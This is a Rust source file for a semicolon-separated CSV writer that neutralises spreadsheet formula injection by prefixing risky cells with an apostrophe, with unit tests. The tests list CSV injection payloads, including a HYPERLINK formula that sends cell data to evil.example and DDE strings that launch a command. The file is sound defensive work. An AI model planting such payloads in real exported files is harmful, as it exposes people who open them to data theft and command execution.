//! CSV as Italian spreadsheets read it (`;`, CRLF, a BOM so Excel takes it as UTF-8), with every
//! cell that a spreadsheet would run as a formula neutralised. A supplier name such as
//! `=HYPERLINK("http://…";"Clicca")` comes from an imported file, not from us: OWASP's advice on
//! CSV injection is to prefix cells starting with `=`, `+`, `-`, `@`, a tab or a carriage return
//! with `'`, which spreadsheets show as text. Numbers (`-1.234,56`) are left as they are, so credit
//! notes stay negative amounts.

use std::borrow::Cow;

use crate::domain::text::is_plain_number;

/// The characters that make a spreadsheet read a cell as a formula (or hide one after them).
const TRIGGERS: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];

/// The cell as it is safe to write: prefixed with `'` when a spreadsheet would run it.
pub fn neutralise(cell: &str) -> Cow<'_, str> {
    match cell.chars().next() {
        Some(first) if TRIGGERS.contains(&first) && !is_plain_number(cell) => {
            Cow::Owned(format!("'{cell}"))
        }
        _ => Cow::Borrowed(cell),
    }
}

/// A CSV writer whose every cell goes through [`neutralise`].
pub struct SafeCsv {
    out: ::csv::Writer<Vec<u8>>,
}

impl SafeCsv {
    /// `;`-separated, CRLF, starting with a UTF-8 BOM.
    pub fn new() -> SafeCsv {
        SafeCsv {
            out: ::csv::WriterBuilder::new()
                .delimiter(b';')
                .terminator(::csv::Terminator::CRLF)
                .from_writer(Vec::from("\u{feff}".as_bytes())),
        }
    }

    pub fn row<I, S>(&mut self, cells: I) -> Result<(), ::csv::Error>
    where
        I: IntoIterator<Item = S>,
        S: AsRef<str>,
    {
        self.out.write_record(
            cells
                .into_iter()
                .map(|c| neutralise(c.as_ref()).into_owned()),
        )
    }

    pub fn finish(self) -> Result<Vec<u8>, ::csv::Error> {
        self.out
            .into_inner()
            .map_err(|e| ::csv::Error::from(e.into_error()))
    }
}

impl Default for SafeCsv {
    fn default() -> SafeCsv {
        SafeCsv::new()
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn formulas_become_text_and_numbers_stay_numbers() {
        for attack in [
            "=HYPERLINK(\"http://evil.example/?x=\"&A1;\"Clicca\")",
            "+cmd|' /C calc'!A0",
            "@SUM(A1:A2)",
            "-2+3+cmd|' /C calc'!A0",
            "\t=1+1",
            "\r=1+1",
        ] {
            assert_eq!(neutralise(attack), format!("'{attack}"));
        }
        for plain in ["-1.234,56", "-100,00", "1234", "Alfa S.r.l.", "", "a=b"] {
            assert_eq!(neutralise(plain), plain);
        }
    }

    #[test]
    fn every_written_cell_is_neutralised() {
        let mut csv = SafeCsv::new();
        csv.row(["=1+1", "-5,00", "ok"]).expect("row");
        let text = String::from_utf8(csv.finish().expect("bytes")).expect("utf-8");
        assert_eq!(text, "\u{feff}'=1+1;-5,00;ok\r\n");
    }
}
